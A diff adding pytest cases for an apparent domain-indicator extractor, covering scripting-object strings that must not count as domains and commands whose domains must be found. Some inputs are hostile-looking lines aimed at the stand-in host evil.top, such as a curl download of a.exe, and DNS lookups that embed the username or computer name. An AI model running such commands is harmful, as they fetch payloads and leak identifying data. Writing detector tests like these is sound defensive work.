@@ -180,10 +180,49 @@ def test_kinds(text: str, expected: dict[str, list[str]]) -> None:
         "System.Management.Automation.AmsiUtils",
         "C:Windows/command.com",
         "chcp.com 65001 > $null",
+        'CreateObject("wscript.shell")',
+        "new ActiveXObject('adodb.stream')",
+        "New-Object -ComObject shell.application",
+        "x = sys.stdin.read",
+        "wscript.shell",
+        "scripting.filesystemobject",
+        "msxml2.xmlhttp",
+        '{"cr.company":"x"}',
+        '{\\"cr.company\\":1}',
+        "curl -o build.sh 192.0.2.1",
+        "ping $x.name",
     ],
 )
 def test_code_is_not_taken_for_domains(text: str) -> None:
     assert "domain" not in found(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "domain"),
+    [
+        ("nslookup evil.top", "evil.top"),
+        ("nslookup -q=txt evil.top 192.0.2.1", "evil.top"),
+        ("ping -n 1 evil.top", "evil.top"),
+        ("ping -t evil.top", "evil.top"),
+        ("curl evil.top/x", "evil.top"),
+        ("curl -o a.exe evil.top/x", "evil.top"),
+        ("curl.exe -s evil.sh", "evil.sh"),
+        ("Test-NetConnection evil.top -Port 443", "evil.top"),
+        ("tnc -ComputerName evil.top", "evil.top"),
+        ("Resolve-DnsName -Name 'evil.top'", "evil.top"),
+        ("Ping Example.Com", "example.com"),
+        ("connect to Example.Com now", "example.com"),
+        ('"$env:computername.example.com"', "example.com"),
+        ('"x.$d.example.com"', "example.com"),
+        ("nslookup $d.example.com", "example.com"),
+        ("nslookup %USERNAME%.example.com", "example.com"),
+        ('"$($d).example.com"', "example.com"),
+        ("\\\\host.example.com@SSL\\DavWWWRoot\\x", "host.example.com"),
+        ('{"example.com":1}', "example.com"),
+    ],
+)
+def test_domain_without_a_scheme(text: str, domain: str) -> None:
+    assert found(text)["domain"] == [domain]
 
 
 @pytest.mark.parametrize(
